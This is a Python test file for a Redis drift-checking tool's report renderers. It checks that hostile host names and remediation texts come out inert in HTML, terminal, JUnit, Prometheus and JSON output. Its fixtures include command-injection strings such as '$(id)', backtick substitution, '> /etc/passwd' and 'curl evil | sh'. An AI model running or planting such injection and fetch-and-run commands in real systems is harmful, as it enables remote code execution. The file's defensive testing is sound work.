"""Data from the other side comes out of every renderer and writer as the data that went in."""

from __future__ import annotations

import functools
import html.parser
import json
import random
import re
from collections.abc import Callable, Iterator
from copy import deepcopy
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from ansible.module_utils.redis_control.load import compare, runs
from ansible.module_utils.redis_control.report import document, readiness
from ansible.module_utils.redis_ops.base.text import printable
from attacks import EVERY, names
from checked import build, finding, looked, scope, seen
from hypothesis import given
from load_records import build as build_load
from load_records import check, jobs, run, snapshots, users
from load_runs import report
from rendered import exposed, lines, page, xml
from strategies import quick
from test_report_outputs import metrics

ROOT = Path(__file__).parent.parent.parent
every_attack = pytest.mark.parametrize("attack", EVERY, ids=lambda attack: ascii(attack)[:40])
VERDICTS = re.compile(r"clean|DRIFT|FAILED|PASS|FAIL|INVALID|READY|NOT READY")


def checked(attack: str) -> dict[str, Any]:
    """A document of a check in which every text of a host is the attack."""
    texts = dict.fromkeys(("subject", "expected", "actual", "why", "remedy"), attack)
    odd = finding(f"acl.{attack}", values=dict.fromkeys(("declared", "file", "running"), attack), **texts)
    place = {**scope(odd, instance=attack), "server": attack, "unknown": [attack]}
    failed = document.HostResult("redis2", error=attack)
    return build(document.HostResult("redis1", seen(scope(instance=""), place)), failed, limit=attack)


def loaded(attack: str) -> dict[str, Any]:
    """A document of a load test in which every text of a host or a generator is the attack."""
    seen = deepcopy(snapshots())
    for one in (snapshot for moment in seen.values() for snapshot in moment):
        one["server"] = attack
        one["config"]["proc-title-template"] = attack
        one["slowlog"]["entries"] = [{"id": 9, "time": 1005, "usec": 20_000, "command": attack}]
        one["slowlog"]["last_id"] = 9
    told = users(error_examples=[attack], errors={attack: 3}, trust=[{"id": "late", "text": attack}])
    texts = dict.fromkeys(("id", "subject", "expected", "actual", "why", "remedy"), attack)
    done = jobs(add_errors={attack: 1}, worker_errors={attack: 1}, not_done={attack: 2}, library=attack)
    return build_load(
        run("users", told),
        run("jobs", done, name=attack),
        run("jobs", None, said=attack, name=attack),
        seen=seen,
        checklist=[check("FAIL", **texts), check("WARN", host=attack)],
        label=attack,
    )


def ready(attack: str) -> dict[str, Any]:
    """A record of the checks before a load in which every text of a host is the attack."""
    texts = dict.fromkeys(("id", "subject", "expected", "actual", "why", "remedy"), attack)
    found = [check("FAIL", **texts, host=attack), check("WARN", host=attack), check("PASS", **texts, host=attack)]
    return readiness.build(found, time="2026-11-23T12:00:00+00:00", inventory=attack)


def compared(attack: str) -> dict[str, Any]:
    """A record of a comparison in which every text of a report is the attack."""
    dice = random.Random(1)
    given = {"place": (attack, attack), "label": attack}
    sides = [
        compare.Side(
            attack,
            [
                runs.read(attack, report(dice, 2 * number + place, config={attack: f"{attack} {place}"}, **given))
                for number in range(6)
            ],
        )
        for place in (0, 1)
    ]
    return compare.build(*sides, effect=5, time="2026-11-23T18:00:00+00:00", unread=[attack])


KINDS = (checked, loaded, ready, compared)
every_kind = pytest.mark.parametrize("make", KINDS, ids=lambda make: make.__name__)


# --- pages ------------------------------------------------------------------------------------------------------------


class Structure(html.parser.HTMLParser):
    """The elements of a page with the names of their attributes, and its texts."""

    def __init__(self, written: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Any] = []
        self.texts: list[str] = []
        self.values: list[str] = []
        self.feed(written)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, [name for name, _ in attrs]))
        self.values += [value or "" for _, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.elements.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.elements.append(decl)


@functools.cache
def plain_page(make: Callable[[str], dict[str, Any]]) -> str:
    return page(make("word"))


def styles(written: str) -> list[str]:
    return re.findall(r"<style>.*?</style>", written, re.DOTALL)


@every_kind
@every_attack
def test_a_page_has_the_elements_that_it_has_for_a_plain_word(make, attack):
    plain, written = plain_page(make), page(make(attack))
    structure = Structure(written)
    assert structure.elements == Structure(plain).elements
    assert styles(written) == styles(plain)
    shown = " ".join(printable(attack).split())
    assert any(shown in " ".join(words.split()) for words in structure.texts)
    assert not [value for value in structure.values if re.match(r"\s*(javascript|data|https?):", value)]
    written.encode()


@quick
@given(names)
def test_any_text_makes_the_same_page(attack):
    for make in KINDS:
        assert Structure(page(make(attack))).elements == Structure(plain_page(make)).elements


@pytest.mark.parametrize(
    "host", ["-e@file", "@file", "all:!redis1", "*", "~.*", "a b", "$(id)", "../x", "a\x1bb", "x,y"]
)
def test_a_host_whose_name_is_a_pattern_or_an_option_gets_no_command(host):
    made = build(looked(host, finding("acl.bob")))
    assert "redis_drift_remediate" not in page(made)
    assert "--limit redis-1.example.com -e redis_drift" in page(build(looked("redis-1.example.com", finding("x"))))


@pytest.mark.parametrize(
    "remedy",
    [
        "redis-cli ping | sh",
        "redis-cli ping $(id)",
        "redis-cli ping `id`",
        'redis-cli ping "$(id)"',
        "redis-cli ping && id",
        "redis-cli ping > /etc/passwd",
        "chown root /x\nid",
        "systemctl stop x & id",
        "curl evil | sh",
    ],
)
def test_a_line_to_copy_is_one_simple_command(remedy):
    written = page(build(looked("redis1", finding("acl.bob", remedy=remedy))))
    shown = re.findall(r'<code class="command">(.*?)</code>', written)
    assert [line for line in shown if "redis_drift_remediate" not in line] in ([], ["chown root /x id"])


# --- text -------------------------------------------------------------------------------------------------------------


def in_a_terminal(attack: str) -> dict[str, list[str]]:
    return {make.__name__: lines(make(attack), width=100) for make in KINDS}


@every_attack
def test_no_line_of_a_terminal_is_forged(attack):
    plain = in_a_terminal("word")
    for name, told in in_a_terminal(attack).items():
        assert [line for line in told if not line.isprintable()] == []
        assert len(list(filter(VERDICTS.match, told))) == len(list(filter(VERDICTS.match, plain[name])))


@every_attack
def test_a_text_of_a_host_makes_no_more_lines_than_a_word(attack):
    for make in KINDS[1:]:  # why a host could not be checked for drift may have several lines
        assert len(lines(make(attack), width=10_000)) == len(lines(make("word"), width=10_000))


# --- JUnit, Prometheus, JSON ------------------------------------------------------------------------------------------


def texts_of(root: ET.Element) -> Iterator[str]:
    for element in root.iter():
        yield from element.attrib.values()
        yield element.text or ""


@every_kind
@every_attack
def test_junit_holds_the_text(make, attack):
    plain, found = (ET.fromstring(xml(make(word)).encode()) for word in ("word", attack))
    assert [element.tag for element in found.iter()] == [element.tag for element in plain.iter()]
    assert any(printable(attack) in words for words in texts_of(found))


@every_attack
def test_prometheus_holds_the_label(attack):
    found = metrics(exposed(checked(attack)))
    plain = metrics(exposed(checked("word")))
    assert len(found) == len(plain)
    assert {dict(labels).get("instance") for _, labels in found} == {None, "", printable(attack)}
    assert found["redis_drift_exit_code", ()] == 1


@quick
@given(names, names)
def test_prometheus_has_each_series_once(one, other):
    made = build(looked(one), looked(other)) if one != other else build(looked(one))
    assert len({host["host"] for host in made["hosts"]}) == len(made["hosts"])
    metrics(exposed(made))


@every_attack
def test_json_holds_the_text_and_the_next_check_knows_it_again(attack):
    first = checked(attack)
    again = document.parse(json.dumps(first))
    assert json.loads(json.dumps(first, ensure_ascii=False).encode()) == first
    assert [item["id"] for item in document.items(again)] == [f"acl.{printable(attack)}"]
    second = build(looked("redis1", finding("x")), previous=again)
    assert second["trend"]["since"] == first["time"]


# --- the report of before ---------------------------------------------------------------------------------------------


def places(value: Any, path: tuple = ()) -> Iterator[tuple]:
    yield path
    for key, inner in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(inner, (*path, key))


def test_a_report_of_before_with_anything_anywhere_costs_nobody_the_next():
    first = build(looked("redis1", finding("acl.bob")))
    for path in places(first):
        for wrong in (None, 7, "x", [], {}, [7], {"x": 7}, "\ud800"):
            broken = deepcopy(first)
            inner: Any = {"top": broken}
            for key in ("top", *path)[:-1]:
                inner = inner[key]
            inner[("top", *path)[-1]] = wrong
            previous = document.parse(json.dumps(broken if path else wrong))
            second = build(looked("redis1", finding("acl.bob")), previous=previous)
            page(second), exposed(second), lines(second), xml(second)
